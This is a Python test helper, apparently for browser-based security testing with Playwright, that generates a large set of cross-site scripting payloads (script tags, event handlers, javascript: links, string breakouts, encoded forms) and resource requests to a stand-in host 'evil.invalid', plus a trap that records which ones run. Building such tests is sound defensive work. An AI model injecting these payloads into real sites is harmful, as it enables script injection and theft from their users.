"""Texts that run a script or send a request if a page treats them as markup or code."""

from __future__ import annotations

import re
from itertools import product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Page, Route

ELSEWHERE = "evil.invalid"
"""A host that does not exist: only a payload sends requests to it."""

SCRIPTS = (*("pwned()", "top.pwned()", "window[`pwn`+`ed`]()", "setTimeout(`pwned()`)", f"fetch(`//{ELSEWHERE}/`)"),)
WAYS = (
    # elements that run at once
    *("<script>{}</script>", "</script><script>{}</script>", "<svg><script>{}</script></svg>", "<script>{}//"),
    *(
        "<!--><script>{}</script>",
        "<!--<script>--><script>{}</script>",
        "]]><script>{}</script>",
        "--!><script>{}</script>",
    ),
    *("</title><script>{}</script>", "</style><script>{}</script>", "</textarea><script>{}</script>"),
    *(
        "</noscript><script>{}</script>",
        "</template><script>{}</script>",
        "<ScRiPt >{}</sCrIpT >",
        "<script\n>{}</script\t>",
    ),
    # handlers, in and out of attributes
    *("<img src=x onerror={}>", '"><img src=x onerror="{}">', "'><img src=x onerror='{}'>", "<img/src/onerror={}>"),
    *(
        "<svg onload={}>",
        "<svg/onload='{}'>",
        "<body onload={}>",
        "<details open ontoggle={}>",
        "<style onload={}></style>",
    ),
    *("<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<video><source onerror={}></video>"),
    *("<audio src=x onerror={}>", "<object data=x onerror={}>", '" autofocus onfocus="{}', "' onmouseover='{}"),
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    # addresses
    *('<iframe src="javascript:{}"></iframe>', '<iframe srcdoc="<script>parent.{}</script>"></iframe>'),
    *('<embed src="javascript:{}">', '<meta http-equiv=refresh content="0;url=javascript:{}">', "javascript:{}"),
    *(
        '<a href="javascript:{}">x</a>',
        "[x](javascript:{})",
        r"$\href{{javascript:{}}}{{x}}$",
        "data:text/html,<script>{}</script>",
    ),
    # out of strings and templates
    *(
        '";{};//',
        "';{};//",
        "`;{};//",
        "${{{}}}",
        "\\';{};//",
        "\u2028{}\u2029",
        "*/{}/*",
        "{{{{constructor.constructor(`{}`)()}}}}",
    ),
    # written in other letters
    *("&lt;script&gt;{}&lt;/script&gt;", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "%3Cscript%3E{}%3C/script%3E"),
    "\ufeff<script>{}</script>",
)
REQUESTS = tuple(
    way.format(ELSEWHERE)
    for way in (
        *(
            "<img src=//{}/a.png>",
            "<script src=//{}/a.js></script>",
            "<link rel=stylesheet href=//{}/a.css>",
            "![x](//{}/a)",
        ),
        *("<style>@import '//{}/b.css';</style>", "<base href=//{}/>", "<div style='background:url(//{}/b.png)'>"),
        *(
            "<video poster=//{}/c.png>",
            "<link rel=prefetch href=//{}/d>",
            "url(//{}/e.png)",
            "<iframe src=//{}></iframe>",
        ),
    )
)
PAYLOADS = [*(way.format(script) for way, script in product(WAYS, SCRIPTS)), *REQUESTS]


class Trap:
    """Record every script that a payload runs on a page, and every request that it sends."""

    def __init__(self, page: Page) -> None:
        self._page = page
        self.caught: list[str] = []
        page.add_init_script("window.pwned = () => { (window.hits ??= []).push(new Error().stack); };")
        page.context.route(re.compile(re.escape(ELSEWHERE)), self._abort)
        page.on("dialog", self._dismiss)

    def triggered(self) -> list[str]:
        """Return what payloads have done so far."""
        return self.caught + self._page.evaluate("window.hits ?? []")

    def _abort(self, route: Route) -> None:
        self.caught.append(route.request.url)
        route.abort()

    def _dismiss(self, dialog: Dialog) -> None:
        self.caught.append(dialog.message)
        dialog.dismiss()
